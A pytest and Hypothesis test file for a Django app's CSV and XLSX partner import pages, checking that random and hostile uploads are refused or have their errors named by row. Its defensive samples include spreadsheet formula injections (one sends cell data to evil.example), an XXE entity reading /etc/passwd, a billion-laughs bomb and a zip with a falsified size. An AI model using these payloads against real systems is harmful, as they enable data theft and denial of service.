"""Random and hostile files through the partner import pages (organisations, partnerships and
interactions, as CSV and as XLSX): upload → preview → import.

Whatever the file, the pages answer (never a server error) and say what is wrong in words; a file
with any error imports nothing, and names the row; a clean file imports every new row and nothing
else. Hypothesis draws random bytes and random tables (known, unknown, repeated and missing columns;
cells of every type); the hand-made files are the attacks and accidents seen in the wild, and the
regressions this fuzzing found. Zip bombs, row and size limits as such, Latin-1 text and the export
of formulas are covered in test_import_export.py.
"""

from __future__ import annotations

import csv
import datetime
import html
import io
import re
import zipfile
from collections.abc import Sequence
from typing import Any

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, event, given
from hypothesis import settings as fuzz_settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from conftest import World, client_for
from konbit.core.models import AuditEvent
from konbit.partners.io.importers import COLUMNS, INTERACTIONS, ORGANIZATIONS, PARTNERSHIPS
from konbit.partners.models import (
    EngagementScore,
    Interaction,
    Organization,
    Participation,
    Partnership,
    SegmentChange,
)
from konbit.partners.tests.test_import_export import xlsx_file

START = "/p/alpha/partners/data/import/"
KINDS = [ORGANIZATIONS, PARTNERSHIPS, INTERACTIONS]
LIST_PAGES = {
    ORGANIZATIONS: "/p/alpha/partners/organizations/",
    PARTNERSHIPS: "/p/alpha/partners/",
    INTERACTIONS: "/p/alpha/partners/interactions/",
}
FUZZ = fuzz_settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
PASSWD = "root:x:0:0"


@pytest.fixture(autouse=True)
def import_dir(settings, tmp_path):
    settings.KONBIT_IMPORT_DIR = tmp_path / "imports"


def counts() -> dict[str, int]:
    return {
        "organisations": Organization.all_objects.count(),
        "partnerships": Partnership.all_objects.count(),
        "segment changes": SegmentChange.all_objects.count(),
        "interactions": Interaction.all_objects.count(),
        "participations": Participation.objects.count(),
        "scores": EngagementScore.objects.count(),
        "audit": AuditEvent.objects.count(),
    }


ADDED_TO = {ORGANIZATIONS: "organisations", PARTNERSHIPS: "partnerships", INTERACTIONS: "interactions"}


def outcome(what: str) -> None:
    """What became of a generated file (--hypothesis-show-statistics shows the mix)."""
    if currently_in_test_context():
        event(what)


def flash(response: Any) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def upload(client: Any, kind: str, filename: str, data: bytes) -> Any:
    return client.post(START, {"kind": kind, "file": SimpleUploadedFile(filename, data)})


def refused(client: Any, kind: str, filename: str, data: bytes) -> str:
    """Upload a file that must be refused as a whole; returns the message shown next to the field."""
    before = counts()
    response = upload(client, kind, filename, data)
    assert response.status_code == 400
    assert "Location" not in response
    errors = response.context["form"].errors["file"]
    assert len(errors) == 1 and len(errors[0]) > 15
    assert f'role="alert">{html.escape(errors[0])}</small>' in response.content.decode()
    assert counts() == before
    return str(errors[0])


def errors_shown(page: str) -> list[tuple[str, str, str]]:
    """(row, column, problem) of the preview's error table, as the person reads them."""
    table = page[page.index('id="errors-heading"') :]
    table = table[: table.index("</table>")]
    return [
        (row, html.unescape(column), html.unescape(problem))
        for row, column, problem in re.findall(
            r"<tr>\s*<td>(\d+)</td>\s*<td>(?:<code>)?([^<]*)(?:</code>)?</td>\s*<td>([^<]*)</td>\s*</tr>",
            table,
        )
    ]


def import_through_the_pages(client: Any, kind: str, filename: str, data: bytes) -> Any:
    """Upload, preview and press "Import" as a person would, checking every step: a refused file says
    why and writes nothing; a file with errors lists each with its row and writes nothing, even when
    "Import" is forced; a clean file adds exactly its new rows. Returns the plan (None if refused)."""
    before = counts()
    response = upload(client, kind, filename, data)
    if response.status_code == 400:
        errors = response.context["form"].errors["file"]
        assert errors and f'role="alert">{html.escape(errors[0])}</small>' in response.content.decode()
        assert counts() == before
        outcome("refused as a whole")
        return None
    assert response.status_code == 302, response.content.decode()[:500]
    url = response["Location"]
    preview = client.get(url)
    assert preview.status_code == 200
    page = preview.content.decode()
    plan = preview.context["plan"]
    assert counts() == before  # the preview writes nothing
    if plan.errors:
        assert "Nothing will be imported until every error is corrected" in page
        shown = errors_shown(page)
        for error in plan.errors[:1000]:
            assert (str(error.row), error.column or "—", error.message) in shown
        forced = client.post(url)  # even a forged click on "Import" writes nothing
        assert forced.status_code == 200
        assert counts() == before
        outcome("errors named by row")
        return plan
    done = client.post(url)
    if done.status_code == 400:  # a service refused a row: said with its row number, nothing kept
        assert re.search(r"Row \d+ could not be saved: .+ Nothing was imported\.", done.content.decode())
        assert counts() == before
        outcome("refused while saving")
        return plan
    assert done.status_code == 302 and done["Location"] == LIST_PAGES[kind]
    assert flash(done) == [f"Import done: {plan.new_count} added, {plan.present_count} already there."]
    after = counts()
    assert after[ADDED_TO[kind]] - before[ADDED_TO[kind]] == plan.new_count
    if plan.new_count == 0:
        assert after == before
    assert client.get(done["Location"]).status_code == 200  # the list the person lands on opens
    outcome("imported" if plan.new_count else "nothing new")
    return plan


def csv_file(rows: Sequence[Sequence[object]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def with_cells(workbook: bytes, prefix: bytes = b"", **cells: str) -> bytes:
    """The workbook with its sheet's XML changed by hand: each placeholder text replaced by raw XML,
    and `prefix` (a declaration and DOCTYPE) put before it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                for placeholder, xml in cells.items():
                    data = data.replace(placeholder.encode(), xml.encode())
                data = prefix + data
            target.writestr(info, data)
    return buffer.getvalue()


# --- hypothesis ----------------------------------------------------------------------------------

ORG_NAMES = ["Alpha Partner Cooperative", "alpha  secret processor", "Bravo Pump Suppliers", "Koperativ Kafé"]
# Text a workbook can hold (its XML has no control characters); CSV cells may hold anything.
xml_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=15)
plausible = st.sampled_from(
    [
        *ORG_NAMES,
        "Alpha Partner Cooperative; Alpha Secret Processor",
        "2024-03-05",
        "05/03/2024",
        "2024-02-30",
        "0001-01-01",
        "9999-12-31",
        "call",
        "Round table",
        "workshop",
        "active",
        "Wait-and-see",
        "lead_firm",
        "core, rules",
        "kkl.ht",
        "http://",
        "30",
        "-2",
        "3",
        "1e3",
        "9" * 60,
        "facilitator@alpha.example.org",
        "viewer@alpha.example.org",
        "=cmd|' /C calc'!A0",
        "'=1+1",
        "@SUM(A1)",
        " ",
    ]
)
csv_cells = plausible | st.text(max_size=15)
xlsx_cells = (
    plausible
    | xml_text
    | st.none()
    | st.booleans()
    | st.integers(min_value=-(10**20), max_value=10**20)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.dates(min_value=datetime.date(1900, 1, 1))
    | st.datetimes(min_value=datetime.datetime(1900, 1, 1))  # noqa: DTZ001 - what Excel stores
)


def headers_for(kind: str) -> st.SearchStrategy[list[str]]:
    """Column names: the kind's own (and their aliases) in any case and spacing, repeated or missing,
    among names nobody knows."""
    names = [name for column in COLUMNS[kind] for name in (column.name, *column.aliases)]
    known = st.sampled_from(names).flatmap(
        lambda name: st.sampled_from([name, name.upper(), f"  {name} ", name.replace(" ", "  ")])
    )
    return st.lists(known | xml_text, max_size=len(COLUMNS[kind]) + 2)


@st.composite
def tables(draw: st.DrawFn, kind: str, cells: st.SearchStrategy[Any]) -> list[list[Any]]:
    header = draw(headers_for(kind))
    rows = draw(st.lists(st.lists(cells, max_size=len(header) + 2), max_size=6))
    return [header, *rows]


@FUZZ
@given(
    kind=st.sampled_from(KINDS),
    filename=st.sampled_from(["data.csv", "data.xlsx", "data.xls", "data.txt", "data"]),
    head=st.sampled_from(
        [b"", b"PK\x03\x04", b"\xef\xbb\xbf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"name\n"]
    ),
    body=st.binary(max_size=2000),
)
def test_random_bytes_are_refused_with_a_message_or_checked_row_by_row(
    world: World, kind: str, filename: str, head: bytes, body: bytes
) -> None:
    import_through_the_pages(client_for(world.facilitator), kind, filename, head + body)


@FUZZ
@given(data=st.data(), kind=st.sampled_from(KINDS), delimiter=st.sampled_from([",", ";", "\t"]))
def test_random_csv_tables_import_whole_or_not_at_all(
    world: World, data: Any, kind: str, delimiter: str
) -> None:
    rows = data.draw(tables(kind, csv_cells))
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    import_through_the_pages(client_for(world.facilitator), kind, "data.csv", out.getvalue().encode())


@FUZZ
@given(data=st.data(), kind=st.sampled_from(KINDS))
def test_random_xlsx_tables_import_whole_or_not_at_all(world: World, data: Any, kind: str) -> None:
    rows = data.draw(tables(kind, xlsx_cells))
    import_through_the_pages(client_for(world.facilitator), kind, "data.xlsx", xlsx_file(rows))


GOOD_ROWS = {
    INTERACTIONS: st.tuples(
        st.dates(min_value=datetime.date(2020, 1, 1), max_value=datetime.date(2025, 12, 31)).map(
            lambda d: d.isoformat()
        ),
        st.sampled_from(["call", "Round table", "visit", "training"]),
        st.sampled_from(["Alpha Partner Cooperative", "alpha secret processor; Alpha Partner Cooperative"]),
        xml_text.map(lambda t: t.strip()[:200]),
        st.integers(0, 600).map(str),
        st.integers(-2, 2).map(str),
    ).map(list),
    ORGANIZATIONS: st.tuples(
        st.text(st.characters(codec="ascii", categories=("Lu", "Ll", "Nd")), min_size=3, max_size=30).map(
            lambda t: f"Org {t}"
        ),
        st.sampled_from(["", "lead_firm", "Financial institution", "NGO"]),
        st.sampled_from(["", "core", "supporting, rules"]),
        st.sampled_from(["", "example.org", "https://kkl.ht/a"]),
    ).map(list),
}
HEADERS = {
    INTERACTIONS: ["date", "kind", "organisations", "title", "duration", "sentiment"],
    ORGANIZATIONS: ["name", "type", "functions", "website"],
}
# One mistake per bad row: (column index, value, column named in the error).
MISTAKES = {
    INTERACTIONS: [
        (0, "next tuesday", "date"),
        (0, "31/02/2024", "date"),
        (0, "0001-01-01", "date"),
        (1, "Coffee chat", "kind"),
        (2, "Bravo Pump Suppliers", "organisations"),
        (2, " ; ", "organisations"),
        (3, "t" * 201, "title"),
        (4, "-1", "duration"),
        (4, "9" * 5000, "duration"),
        (4, "1.5", "duration"),
        (5, "3", "sentiment"),
    ],
    ORGANIZATIONS: [
        (0, "n" * 201, "name"),
        (0, "!!!", "name"),
        (1, "Bank", "type"),
        (2, "lending", "functions"),
        (3, "not a web address", "website"),
    ],
}


@FUZZ
@given(data=st.data(), kind=st.sampled_from([INTERACTIONS, ORGANIZATIONS]), as_xlsx=st.booleans())
def test_good_rows_import_whole_and_one_bad_row_among_them_imports_nothing_and_is_named(
    world: World, data: Any, kind: str, as_xlsx: bool
) -> None:
    rows = data.draw(st.lists(GOOD_ROWS[kind], min_size=1, max_size=6, unique_by=lambda r: r[0]))
    mistake = data.draw(st.none() | st.sampled_from(MISTAKES[kind]))
    if mistake is not None:
        index, value, column = mistake
        bad = data.draw(GOOD_ROWS[kind])
        bad[index] = value
        position = data.draw(st.integers(0, len(rows)))
        rows.insert(position, bad)
    file = xlsx_file([HEADERS[kind], *rows]) if as_xlsx else csv_file([HEADERS[kind], *rows])
    plan = import_through_the_pages(
        client_for(world.facilitator), kind, "data.xlsx" if as_xlsx else "data.csv", file
    )
    assert plan is not None
    if mistake is None:  # every row added (or already there from an earlier example)
        assert plan.errors == [] and plan.new_count + plan.present_count == len(rows)
    else:  # the one bad row is named, with its column; nothing was written (checked above)
        assert {(e.row, e.column) for e in plan.errors} == {(position + 2, column)}


# --- hand-made: wrong types, columns, huge cells -------------------------------------------------


def test_cells_of_the_wrong_type_in_a_workbook_are_named_by_row_and_column(world: World) -> None:
    header = ["date", "kind", "organisations", "duration", "sentiment", "title"]
    rows = [
        header,
        [datetime.date(2024, 3, 5), "call", "Alpha Partner Cooperative", 30.0, -2, 2024],  # fine
        [45356, True, "Alpha Partner Cooperative", 30.5, datetime.date(2024, 1, 1), None],
        ["2024-03-05", "call", 12345, "thirty", 1.0, "ok"],
    ]
    plan = import_through_the_pages(
        client_for(world.facilitator), INTERACTIONS, "types.xlsx", xlsx_file(rows)
    )
    assert {(e.row, e.column, e.message) for e in plan.errors} == {
        (3, "date", "bad date “45356” (use YYYY-MM-DD or DD/MM/YYYY)"),
        (3, "kind", "unknown kind “TRUE”"),
        (3, "duration", "“30.5” is not a whole number"),
        (3, "sentiment", "“2024-01-01” is not a whole number"),
        (4, "organisations", "unknown organisation “12345”"),
        (4, "duration", "“thirty” is not a whole number"),
    }
    assert [r.data["title"] for r in plan.rows if r.number == 2] == ["2024"]  # a number is text here


@pytest.mark.parametrize(
    "kind,header,expected",
    [
        (ORGANIZATIONS, ["name", "Name ", "type"], [(1, "name", "this column appears twice")]),
        (PARTNERSHIPS, ["organisation", "organization"], [(1, "organization", "this column appears twice")]),
        (
            INTERACTIONS,
            ["organisations", "title"],
            [(1, "date", "missing column"), (1, "kind", "missing column")],
        ),
        (PARTNERSHIPS, ["segment", "since"], [(1, "organisation", "missing column")]),
    ],
)
def test_missing_and_repeated_columns_are_named_on_row_one(
    world: World, kind: str, header: list[str], expected: list[tuple[int, str, str]]
) -> None:
    plan = import_through_the_pages(
        client_for(world.owner),
        kind,
        "cols.csv",
        csv_file([header, ["Alpha Partner Cooperative"] * len(header)]),
    )
    assert [(e.row, e.column, e.message) for e in plan.errors] == expected


def test_a_megabyte_in_one_cell(world: World) -> None:
    client = client_for(world.owner)
    megabyte = "x" * 1_000_000
    # CSV reading stops at 131,072 characters a cell, and says where.
    message = refused(
        client, ORGANIZATIONS, "big.csv", csv_file([["name", "notes"], ["Small", "ok"], ["Big", megabyte]])
    )
    assert (
        message
        == "Line 3 holds a cell of more than 131,072 characters. Shorten it and upload the file again."
    )
    # In a workbook (written by hand: openpyxl cuts cells at Excel's 32,767 characters), as notes it
    # is imported whole; as a name it is an error on its row.
    data = with_cells(xlsx_file([["name", "notes"], ["Big", "CELL"]]), CELL=megabyte)
    plan = import_through_the_pages(client, ORGANIZATIONS, "big.xlsx", data)
    assert plan.new_count == 1
    assert len(Organization.objects.get(name="Big").notes) == 1_000_000
    data = with_cells(xlsx_file([["name"], ["Fine"], ["CELL"]]), CELL=megabyte)
    plan = import_through_the_pages(client, ORGANIZATIONS, "big.xlsx", data)
    assert [(e.row, e.column, e.message) for e in plan.errors] == [
        (3, "name", "too long: at most 200 characters")
    ]
    assert not Organization.objects.filter(name="Fine").exists()


def test_a_file_over_10_mb_is_refused_by_the_upload_limit_with_a_message(world: World) -> None:
    data = b"name,notes\n" + b"Org,notes\n" * (1_100_000)
    assert len(data) > 10 * 1024 * 1024
    for filename in ["big.csv", "big.xlsx"]:
        message = refused(client_for(world.owner), ORGANIZATIONS, filename, data)
        assert message == "The file is larger than 10 MB. Split it into smaller files."


def test_more_columns_than_any_import_needs_are_refused(world: World) -> None:
    header = [f"column {n}" for n in range(101)]
    message = refused(client_for(world.owner), ORGANIZATIONS, "wide.csv", csv_file([header, ["x"] * 101]))
    assert message == "The file has more than 100 columns."


# --- hand-made: formulas -------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", '=HYPERLINK("http://evil.example","x")']


def test_formula_text_is_imported_as_plain_text_and_exported_neutralised(world: World) -> None:
    client = client_for(world.owner)
    rows = [
        ["name", "notes", "town"],
        *[[f"Org {n}", formula, formula] for n, formula in enumerate(FORMULAS)],
    ]
    import_through_the_pages(client, ORGANIZATIONS, "formulas.csv", csv_file(rows))
    for n, formula in enumerate(FORMULAS):
        stored = Organization.objects.get(name=f"Org {n}")
        assert (stored.notes, stored.town) == (formula, formula)

    exported = client.get("/p/alpha/partners/data/export/organizations.csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(exported)))
    notes = [line[lines[0].index("notes")] for line in lines if line[0].startswith("Org ")]
    assert sorted(notes) == sorted("'" + f for f in FORMULAS)
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get("/p/alpha/partners/data/export/organizations.xlsx").content)
    )
    sheet = workbook.worksheets[0]
    column = [c.value for c in sheet[1]].index("notes")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("Org ")]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)  # text, never a formula
    # The exported file imports again as "already there", the apostrophes taken away again.
    plan = import_through_the_pages(client, ORGANIZATIONS, "organizations.csv", exported.encode())
    assert not plan.errors and plan.new_count == 0


def test_a_real_formula_cell_is_read_as_its_value_never_as_a_formula(world: World) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "notes"])
    sheet.append(["Koperativ Kafé", '=WEBSERVICE("http://evil.example/?"&A1)'])  # a formula, no cached value
    sheet.append(["=1+1", "x"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    plan = import_through_the_pages(client_for(world.owner), ORGANIZATIONS, "f.xlsx", buffer.getvalue())
    assert [(e.row, e.column, e.message) for e in plan.errors] == [(3, "name", "required")]
    assert plan.rows[0].data["notes"] == ""


# --- hand-made: unsafe and unreadable workbooks, encodings ---------------------------------------


XML = b'<?xml version="1.0"?>'
XXE = b'<!DOCTYPE worksheet [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a "haha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, (b"&%c;" % (97 + i)) * 10) for i in range(8))
    + b"]>"
)


@pytest.mark.parametrize(
    "data",
    [
        with_cells(xlsx_file([["name"], ["CELL"]]), XML + XXE, CELL="&leak;"),
        with_cells(xlsx_file([["name"], ["CELL"]]), XML + LAUGHS, CELL="&i;"),
    ],
    ids=["external entity", "billion laughs"],
)
def test_workbooks_with_entities_are_refused_and_never_read_a_file(world: World, data: bytes) -> None:
    client = client_for(world.owner)
    for kind in KINDS:
        message = refused(client, kind, "evil.xlsx", data)
        assert message.startswith("The file declares a DTD or entities")
    assert PASSWD not in upload(client, ORGANIZATIONS, "evil.xlsx", data).content.decode()


def test_a_zip_whose_directory_understates_its_size_is_refused(world: World) -> None:
    """zipfile stops at the declared size, so a lying directory yields a damaged sheet, not a bomb."""
    source = xlsx_file([["name"], *[["x" * 50] for _ in range(2000)]])
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    real = info.file_size.to_bytes(4, "little")
    lying = source.replace(real, (1000).to_bytes(4, "little"))
    assert lying != source
    message = refused(client_for(world.owner), ORGANIZATIONS, "lying.xlsx", lying)
    assert "cannot be opened" in message


@pytest.mark.parametrize(
    "data",
    [
        "name,notes\nCafé,x\n".encode("utf-16"),
        "name,notes\nCafe,x\n".encode("utf-16-le"),  # no byte-order mark: NUL after every letter
        b"name,notes\nSeed\x00Co,x\n",
    ],
    ids=["utf-16", "utf-16 without bom", "nul"],
)
def test_text_that_is_not_utf8_is_refused_with_what_to_do(world: World, data: bytes) -> None:
    """UTF-16 without a BOM was read as UTF-8 with NULs ("missing column name"); NUL was a 500 on
    PostgreSQL."""
    for kind in KINDS:
        message = refused(client_for(world.owner), kind, "data.csv", data)
        assert message.startswith("The file is not UTF-8 text.") and "“CSV UTF-8”" in message


def test_utf8_with_a_byte_order_mark_is_read(world: World) -> None:
    data = "\ufeffname,town\nKoperativ Kafé,Limbé\n".encode()
    plan = import_through_the_pages(client_for(world.owner), ORGANIZATIONS, "bom.csv", data)
    assert plan.new_count == 1 and plan.ignored_columns == []
    assert Organization.objects.get(name="Koperativ Kafé").town == "Limbé"


# --- regressions found by the fuzzing above ------------------------------------------------------


def test_a_duration_of_thousands_of_digits_is_an_error_not_a_server_error(world: World) -> None:
    """Was a 500: Python's int() refuses strings of more than 4,300 digits."""
    rows = [
        ["date", "kind", "organisations", "duration"],
        ["2024-03-05", "call", "Alpha Partner Cooperative", "9" * 5000],
    ]
    plan = import_through_the_pages(client_for(world.facilitator), INTERACTIONS, "i.csv", csv_file(rows))
    assert [(e.row, e.column) for e in plan.errors] == [(2, "duration")]
    assert plan.errors[0].message.endswith("is not between 0 and 1000000")


@pytest.mark.parametrize("since", ["0001-01-01", "01/01/0001", "1899-12-31", "2101-01-01"])
def test_a_date_outside_1900_to_2100_is_an_error_not_a_server_error(world: World, since: str) -> None:
    """Was a 500: a partnership since year 1 made the engagement score's monthly series overflow."""
    client = client_for(world.facilitator)
    rows = [
        ["organisation", "since"],
        ["Alpha Partner Cooperative", "2024-01-01"],
        ["Alpha Secret Processor", since],
    ]
    plan = import_through_the_pages(client, PARTNERSHIPS, "p.csv", csv_file(rows))
    assert [(e.row, e.column, e.message) for e in plan.errors] == [
        (3, "since", f"{since} is not a date between 1900 and 2100")
    ]
    rows = [["date", "kind", "organisations"], [since, "call", "Alpha Partner Cooperative"]]
    plan = import_through_the_pages(client, INTERACTIONS, "i.csv", csv_file(rows))
    assert [(e.row, e.column) for e in plan.errors] == [(2, "date")]
    assert Partnership.objects.count() == 0 and Interaction.objects.count() == 0
